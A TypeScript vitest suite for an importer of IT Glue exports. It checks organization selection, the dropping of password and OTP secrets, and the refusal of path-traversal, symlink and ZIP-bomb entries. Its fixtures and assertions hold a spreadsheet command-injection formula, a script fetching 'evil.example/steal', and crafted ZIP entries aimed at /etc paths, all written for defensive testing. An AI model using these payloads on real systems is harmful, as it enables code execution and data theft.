import { readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import type { ExportData } from "../../scripts/import/export-data.ts";
import { itglueSource } from "../../scripts/import/sources/itglue.ts";
import { exportFolder, exportZip, FIXTURES, fixtureFiles, leaked } from "../helpers/export-files.ts";
import { makeRepo, run } from "../helpers/repo.ts";

const FOLDER = join(FIXTURES, "itglue");
const read = (path: string, organization?: string) => itglueSource.read(path, organization === undefined ? {} : { organization });
const messages = (data: ExportData) => data.problems.map((problem) => `${problem.file}:${problem.line}:${problem.column} ${problem.severity} ${problem.message}`);
const byId = <T extends { origin: { id: string } }>(items: readonly T[], id: string) => items.find((item) => item.origin.id === id);

/** Every password and OTP secret of passwords.csv, every organization's, read here with csv-parse alone. */
function plantedSecrets(): string[] {
  const rows = parse(readFileSync(join(FOLDER, "passwords.csv")), { columns: true }) as Record<string, string>[];
  return rows.flatMap((row) => [row.password as string, row.otp_secret as string]).filter((value) => value !== "");
}

describe("the IT Glue reader on an account-wide export", async () => {
  const data = await read(FOLDER, "Harbor Finch Legal");

  it("imports nothing until --organization picks one of its organizations", async () => {
    const none = await read(FOLDER);
    expect(none.assets).toEqual([]);
    expect(none.credentials).toEqual([]);
    expect(none.dropped).toEqual([]);
    expect(messages(none)).toEqual([
      'organizations.csv:1:1 error this export holds 2 organizations (Harbor Finch Legal, Osprey Dental Group); pick the one to import with --organization "<name>". Nothing was imported',
    ]);
    const typo = await read(FOLDER, "Harbour Finch");
    expect(messages(typo)).toEqual([expect.stringContaining('error this export holds no organization named "Harbour Finch"')]);
    expect((await read(FOLDER, "1001")).client?.fields.name).toBe("Harbor Finch Legal");
  });

  it("reads the organization, and no row of another", () => {
    expect(data.client).toEqual({
      origin: { system: "itglue", entity: "organizations", id: "1001", file: "organizations.csv", line: 2 },
      fields: { name: "Harbor Finch Legal", notes: "Alert: Court deadlines: no maintenance 8:00-18:00 on weekdays\nLaw firm, 14 staff. After hours: call Oliver Evans on +1 555 0177." },
    });
    expect(JSON.stringify(data)).not.toMatch(/Osprey|ODG-|Dentrix|ospreydental/);
  });

  it("matches configurations' headers by IT Glue's API attribute names", () => {
    expect(byId(data.assets, "3001")?.fields).toEqual({
      name: "HF-DC01",
      category: "hardware",
      sourceType: "Server",
      make: "Dell",
      model: "PowerEdge R450",
      serial: "7XK2Q93",
      operatingSystem: "Windows Server 2022",
      ip: "192.168.10.5",
      mac: "B0:7B:25:10:44:01",
      location: "Main Office",
      purchasedOn: "2022-03-14",
      installedOn: "2022-03-21",
      expiresOn: "2027-03-14",
      notes: "Hostname: hf-dc01.harborfinch.local\nDomain controller",
    });
    expect(byId(data.assets, "3002")?.fields.expiresOn).toBe("2026-11-02");
    expect(byId(data.assets, "3006")?.fields.category).toBe("cloud-tenant");
    expect(byId(data.assets, "6001")?.fields).toEqual({ name: "harborfinch.example", category: "domain", vendor: "Gandi", expiresOn: "2026-02-11", notes: "Main domain, email" });
    // IT Glue does not escape formulas: the cell is kept as written.
    expect(byId(data.assets, "3003")?.fields.notes).toBe("=cmd|' /C calc'!A0");
    expect(messages(data)).toEqual(["configurations.csv:6:85 warning this warranty-expires-at is not a date in YYYY-MM-DD form (03/04/2025 could be March or April); it was left out"]);
  });

  it("reads contacts' emails and phones from IT Glue's JSON lists and from text", () => {
    expect(data.contacts.map((contact) => contact.fields)).toEqual([
      { name: "Oliver Evans", title: "Managing Partner", email: "oliver.evans@harborfinch.example", phone: "+1 555 0101", mobile: "+1 555 0177" },
      { name: "Mara Quint", title: "Office Manager", email: "mara.quint@harborfinch.example", phone: "+1 555 0102" },
      { name: "Priya Patel", title: "Associate", email: "priya.patel@harborfinch.example", phone: "+1 555 0103", mobile: "+1 555 0178" },
    ]);
    expect(data.locations.map((location) => location.fields)).toEqual([
      { name: "Main Office", address: "410 Wharf Street, Suite 3", city: "Harbor City", state: "Oregon", postalCode: "97035", country: "United States", phone: "+1 555 0100" },
    ]);
  });

  it("drops password, one_time_password and otp_secret, counting this organization's values", () => {
    expect(data.dropped).toEqual([
      { file: "passwords.csv", column: "password", values: 5 },
      { file: "passwords.csv", column: "one_time_password", values: 0 },
      { file: "passwords.csv", column: "otp_secret", values: 2 },
    ]);
    expect(data.credentials.map((credential) => [credential.origin.id, credential.fields.name, credential.fields.hadOtp, credential.fields.archived])).toEqual([
      ["7001", "Domain Admin", false, false],
      ["7002", "Microsoft 365 Global Admin", true, false],
      ["7003", "FortiGate admin", true, false],
      ["7004", "Synology DSM", false, false],
      ["7005", "Old VPN appliance", false, true],
    ]);
    expect(byId(data.credentials, "7002")?.fields).toEqual({
      name: "Microsoft 365 Global Admin",
      username: "admin@harborfinch.onmicrosoft.example",
      url: "https://admin.microsoft.com",
      category: "Cloud",
      hadOtp: true,
      archived: false,
      notes: "Break-glass account is separate",
    });
  });

  it("holds no password or OTP secret of any organization", () => {
    const secrets = plantedSecrets();
    expect(secrets).toHaveLength(8);
    expect(leaked(data, secrets)).toEqual([]);
    // The password pasted into Notes is left for the mapping's firewall, which withholds it (below).
    expect(byId(data.credentials, "7004")?.fields.notes).toBe("temp pw while Mara is away: Wh1stle-Cove!303");
  });

  it("writes the credential whose notes hold a pasted password without them, and says they were withheld", async () => {
    const root = makeRepo({});
    const result = await run(["import", "itglue", FOLDER, "--client", "harbor-finch", "--organization", "Harbor Finch Legal", "--root", root]);
    expect(result.code, result.stderr).toBe(0);
    const synology = readFileSync(join(root, "clients/harbor-finch/access/synology-dsm-nasadmin.md"), "utf8");
    expect(synology).not.toContain("Wh1stle-Cove!303");
    expect(synology).not.toContain("internalNotes");
    expect(synology).toMatch(/withheld:\n\s+- notes\n/);
    expect(`${result.stdout}${result.stderr}`).not.toContain("Wh1stle");
  });

  it("reads each document's HTML from Documents/<locator>/, script and all: the mapping sanitises it", () => {
    expect(data.documents.map((document) => [document.origin.id, document.fields.title])).toEqual([
      ["5001", "Firewall configuration"],
      ["5002", "New starter checklist"],
    ]);
    expect(data.documents[0]?.fields.html).toContain("<script>fetch('https://evil.example/steal");
    expect(data.documents[0]?.fields.html).toContain('onerror="alert');
  });

  it("reads the same from the export as a ZIP", async () => {
    const zip = await read(exportZip(fixtureFiles("itglue")), "Harbor Finch Legal");
    expect(zip).toEqual(data);
  });
});

describe("the IT Glue reader on hostile and broken exports", () => {
  const ORGANIZATIONS = "id,name,quick_notes,alert\n1,Harbor Finch Legal,,\n";
  const DOCUMENTS = "id,name,locator,organization\n";

  it("refuses a locator that leaves the Documents folder, and says when a document's HTML is missing", async () => {
    const data = await read(
      exportFolder({
        "organizations.csv": ORGANIZATIONS,
        "documents.csv": `${DOCUMENTS}1,Escape,../../etc,Harbor Finch Legal\n2,Missing,hfl/missing,Harbor Finch Legal\n3,Fine,hfl/fine,Harbor Finch Legal\n`,
        "Documents/hfl/fine/Fine.html": "<p>fine</p>",
        "Documents/hfl/fine/attachments/inner.html": "<p>not this</p>",
      }),
    );
    expect(data.documents.map((document) => document.fields)).toEqual([{ title: "Fine", html: "<p>fine</p>" }]);
    expect(messages(data)).toEqual([
      "documents.csv:2:10 error this locator climbs out of the export with ../; the document was not read",
      "documents.csv:3:11 warning there is no HTML file in Documents/hfl/missing/; the document was not read",
    ]);
  });

  it("refuses, in a ZIP, entries that leave the export, symlinks and a bomb, and reads the rest", async () => {
    const passwords =
      "id,organization,name,password_category,resource_type,resource_id,username,password,one_time_password,otp_secret,archived,url,notes\n1,Harbor Finch Legal,Router,,,,admin,Zip-Secret-771,,,false,,\n";
    const zip = exportZip({
      "organizations.csv": new TextEncoder().encode(ORGANIZATIONS),
      "passwords.csv": new TextEncoder().encode(passwords),
      "../evil.csv": new TextEncoder().encode("x"),
      "/etc/cron.d/evil": new TextEncoder().encode("x"),
      "C:/Windows/evil.csv": new TextEncoder().encode("x"),
      "..\\..\\evil.csv": new TextEncoder().encode("x"),
      "contacts.csv": [new TextEncoder().encode("/etc/passwd"), { attrs: 0o120777 << 16, os: 3 }],
      "locations.csv": new Uint8Array(8 * 1024 * 1024).fill(0x2c),
    });
    const data = await read(zip);
    expect(data.credentials.map((credential) => credential.fields.name)).toEqual(["Router"]);
    expect(leaked(data, ["Zip-Secret-771"])).toEqual([]);
    expect(messages(data)).toEqual(
      [
        'export.zip:1:1 error the entry "../evil.csv" climbs out of the export with ../; it was not read',
        'export.zip:1:1 error the entry "/etc/cron.d/evil" is an absolute path, outside the export; it was not read',
        'export.zip:1:1 error the entry "C:/Windows/evil.csv" starts with a drive letter, outside the export; it was not read',
        'export.zip:1:1 error the entry "..\\\\..\\\\evil.csv" holds a backslash, which Windows reads as a folder separator; it was not read',
        "contacts.csv:1:1 error this entry is a symbolic link; links in an export are not followed, so it was not read",
        "locations.csv:1:1 error this entry inflates over 200 times its compressed size, as a ZIP bomb does; it was not read",
      ].sort((a, b) => (a < b ? -1 : 1)),
    );
  });
});
